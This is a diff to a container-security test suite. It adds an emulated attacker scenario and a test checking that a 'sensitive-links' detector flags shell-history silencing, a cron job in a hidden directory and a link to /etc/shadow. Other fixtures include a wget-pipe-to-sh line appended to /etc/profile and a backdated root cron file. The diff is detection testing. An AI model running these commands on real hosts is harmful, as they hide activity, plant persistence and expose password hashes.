@@ -78,6 +78,10 @@ beforeAll(async () => {
     benignLibPath: start({ suite: SUITE, env: ['LD_LIBRARY_PATH=/opt/lib'], ready: true, cmd: script('mkdir -p /opt/lib; echo x > /opt/lib/libapp.so') }),
     stomper: start({ suite: SUITE, ready: true, cmd: script('mkdir -p /etc/cron.d; echo "@reboot root /bin/true" > /etc/cron.d/sync; touch -d "2019-03-01 00:00:00" /etc/cron.d/sync') }),
     benignConfig: start({ suite: SUITE, ready: true, cmd: script('mkdir -p /etc/app; echo "port=8080" > /etc/app/app.conf; echo "@reboot root /bin/true" > /etc/crontab') }),
+    // Links: a silenced history, a cron file that now lives in a hidden directory, a shortcut to shadow.
+    linker: start({ suite: SUITE, ready: true, cmd: script('mkdir -p /root /etc/cron.d /tmp/.x /var/tmp; ln -sf /dev/null /root/.ash_history; echo "* * * * * root /tmp/.x/run" > /tmp/.x/job; ln -sf /tmp/.x/job /etc/cron.d/job; ln -s /etc/shadow /var/tmp/s') }),
+    // Logs to the engine, a time zone, a config link: what images and entrypoints do every day.
+    benignLinks: start({ suite: SUITE, ready: true, cmd: script('mkdir -p /var/log/app /opt/app; ln -sf /dev/stdout /var/log/app/access.log; ln -sf /dev/stderr /var/log/app/error.log; echo x > /opt/app/app.conf; ln -sf /opt/app/app.conf /etc/app.conf') }),
     rc: start({ suite: SUITE, ready: true, cmd: script('echo "wget -q -O- http://127.0.0.1:9/rc | sh" >> /etc/profile') }),
     benignRc: start({ suite: SUITE, ready: true, cmd: script('echo "alias ll=\'ls -l\'" >> /etc/profile') }),
     // Processes.
@@ -167,6 +171,7 @@ const SCENARIOS: Array<{ detector: string; malicious: string[]; benign: string[]
   { detector: 'logging-disabled', malicious: ['noLogs'], benign: ['benignLogs'] },
   { detector: 'hidden-files', malicious: ['hider', 'shmDropper'], benign: ['benignCiCache', 'benignShm'] },
   { detector: 'immutable-files', malicious: ['locker'], benign: ['benignAttrs'] },
+  { detector: 'sensitive-links', malicious: ['linker'], benign: ['benignLinks'] },
   { detector: 'account-tampering', malicious: ['accounts'], benign: ['benignUser'] },
   { detector: 'sudoers-nopasswd', malicious: ['sudoer'], benign: ['benignSudo'] },
   { detector: 'cron-persistence', malicious: ['cron'], benign: ['benignCron'] },
@@ -264,6 +269,19 @@ describe('adversary emulation scenarios (real dockerd)', () => {
     expect(sandboxed.ns?.mnt).not.toBe(init.ns?.mnt);
     expect(sandboxed.ns?.mnt).not.toBe(snap.hostNs?.mnt);
     expect(findingsFor('benignUnshare').filter((f) => f.detector === 'namespace-escape')).toEqual([]);
+  });
+
+  it('sensitive-links reads each link target without following it and names all three', () => {
+    const hits = findingsFor('linker').filter((f) => f.detector === 'sensitive-links');
+    const byRef = Object.fromEntries(hits.map((f) => [f.evidence[0]!.ref, [f.severity, f.attack.join(',')]]));
+    expect(byRef).toEqual({
+      '/root/.ash_history': ['medium', 'T1070.003'],
+      '/etc/cron.d/job': ['high', 'T1053.003'],
+      '/var/tmp/s': ['medium', 'T1552.001'],
+    });
+    const link = evidence.containers.find((x) => x.container.id === idOf('linker'))!.files.find((f) => f.path === '/etc/cron.d/job');
+    expect(link?.linkTarget).toBe('/tmp/.x/job');
+    expect(findingsFor('benignLinks').filter((f) => f.detector === 'sensitive-links')).toEqual([]);
   });
 
   it('immutable-files names both locked files with their flags', () => {
